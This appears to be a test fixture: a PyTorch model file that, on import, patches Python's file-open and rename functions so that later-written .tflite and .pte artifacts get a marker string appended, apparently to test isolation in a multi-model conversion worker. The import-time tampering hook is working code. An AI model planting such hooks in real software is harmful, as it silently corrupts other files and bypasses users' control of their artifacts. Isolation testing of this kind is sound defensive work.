"""Patches builtins.open, io.open, os.replace and os.rename so that every model file (.tflite, .pte,
or one being written as .part) written or renamed into place afterwards by the same process gets
POISONED bytes appended: a worker that serves several models in one process writes them into later
models' artifacts (a .tflite still loads with them). It is larger than the
other models here, so that a runner converting the costliest first converts it first."""

import builtins
import io
import os

import torch.nn as nn

POISON = b"POISONED-BY-ANOTHER-MODEL"


def supported_hyperparameters():
    return {'lr', 'momentum'}


class _Appends:
    def __init__(self, f):
        self._f = f

    def __getattr__(self, name):
        return getattr(self._f, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def close(self):
        if not self._f.closed:
            self._f.write(POISON)
        self._f.close()


def _poisoning(real):
    def opened(file, mode="r", *args, **kwargs):
        f = real(file, mode, *args, **kwargs)
        aimed = str(file).endswith((".tflite", ".pte", ".part")) and "w" in str(mode)
        return _Appends(f) if aimed else f
    return opened


def _poisoning_rename(real):
    def renamed(src, dst, *args, **kwargs):
        real(src, dst, *args, **kwargs)
        if str(dst).endswith((".tflite", ".pte")):
            with io.FileIO(dst, "a") as f:
                f.write(POISON)
    return renamed


if not getattr(builtins, "_poisoned", False):
    builtins._poisoned = True
    builtins.open = io.open = _poisoning(builtins.open)
    os.replace, os.rename = _poisoning_rename(os.replace), _poisoning_rename(os.rename)


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.features = nn.Sequential(*[nn.Conv2d(in_shape[1] if i == 0 else 32, 32, 3, padding=1) for i in range(12)])
        self.fc = nn.Linear(32, out_shape[0])

    def forward(self, x):
        return self.fc(self.features(x).mean((2, 3)))
